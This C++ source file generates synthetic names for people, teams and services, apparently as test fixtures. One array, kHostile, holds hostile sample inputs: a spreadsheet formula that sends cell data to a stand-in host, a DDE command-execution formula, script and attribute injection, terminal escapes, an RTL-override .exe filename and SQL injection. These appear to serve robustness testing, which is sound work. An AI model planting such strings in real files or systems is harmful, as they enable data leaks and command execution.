#include "core/generate/names.h"

#include <array>
#include <cctype>

namespace muster::generate {
namespace {

constexpr auto kGiven = std::to_array<std::string_view>(
    {"Adela", "Bram",  "Chiara", "Dario", "Edda",  "Farid", "Greta",  "Hamza", "Ines",   "Joris",
     "Kalea", "Leif",  "Mirela", "Nils",  "Oona",  "Pavel", "Quirin", "Rania", "Soren",  "Tamsin",
     "Ulla",  "Vasil", "Wanda",  "Xenia", "Yusuf", "Zelda", "Anouk",  "Benno", "Cosima", "Dunja"});
constexpr auto kFamily = std::to_array<std::string_view>(
    {"Abelmann", "Brandvik", "Castellan", "Dremmel",  "Eskildsen", "Farrow",
     "Gantner",  "Hollmeer", "Iversdal",  "Jarnek",   "Kestrow",   "Lindqvar",
     "Mondrake", "Norbeck",  "Okonti",    "Pellworm", "Quastner",  "Rosmark",
     "Sandvoll", "Tarkson",  "Umbriel",   "Vestergo", "Wolmarin",  "Zadrek"});
constexpr auto kTeams = std::to_array<std::string_view>(
    {"payments", "ledger", "identity", "platform", "data", "search", "mobile", "support", "risk",
     "billing", "growth", "observability", "fraud", "catalog", "logistics"});
constexpr auto kThings = std::to_array<std::string_view>(
    {"ledger",  "invoice", "settlement", "order",   "parcel", "profile", "catalog", "pricing",
     "report",  "session", "audit",      "metrics", "mail",   "feed",    "batch",   "backup",
     "webhook", "fraud",   "quota",      "image",   "search", "tax",     "refund",  "roster"});
constexpr auto kDeeds = std::to_array<std::string_view>(
    {"export", "sync", "worker", "api", "reader", "writer", "indexer", "gateway", "cleaner",
     "router", "runner", "bot", "loader", "watcher", "relay", "mirror"});
constexpr auto kPurposes = std::to_array<std::string_view>(
    {"serves the API", "moves data every night", "deploys releases", "collects metrics",
     "renews certificates", "answers webhooks", "reads reports", "runs a partner's integration"});
constexpr auto kHostile = std::to_array<std::string_view>({
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
    "<script>alert('muster')</script>",
    "\x1b[31mpayroll\x1b[0m\x07",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+bot\" onmouseover=\"x",
    "invoice\xE2\x80\xAEtxt.exe",
    "[click](javascript:alert(1)) | cell",
    "'; DROP TABLE users; --",
});

}  // namespace

PersonName person_name(Random& random) {
  return {std::string(random.pick(kGiven)), std::string(random.pick(kFamily))};
}

std::string_view team_name(std::size_t index) { return kTeams[index % kTeams.size()]; }

std::string service_name(Random& random) {
  std::string name(random.pick(kThings));
  name += '-';
  name += random.pick(kDeeds);
  return name;
}

std::string distinct_name(Random& random) {
  // One statement a draw: the order in which arguments are evaluated differs between compilers.
  std::string name = service_name(random);
  name += '-';
  name += lower_ascii(token_text(random, 6));
  return name;
}

std::string_view purpose(Random& random) { return random.pick(kPurposes); }

std::string lower_ascii(std::string_view text) {
  std::string folded;
  for (const char c : text) {
    folded += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  }
  return folded;
}

std::string token_text(Random& random, std::size_t length) {
  constexpr std::string_view kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  std::string text;
  for (std::size_t index = 0; index < length; ++index) text += random.pick(kAlphabet);
  return text;
}

std::span<const std::string_view> hostile_names() { return kHostile; }

}  // namespace muster::generate
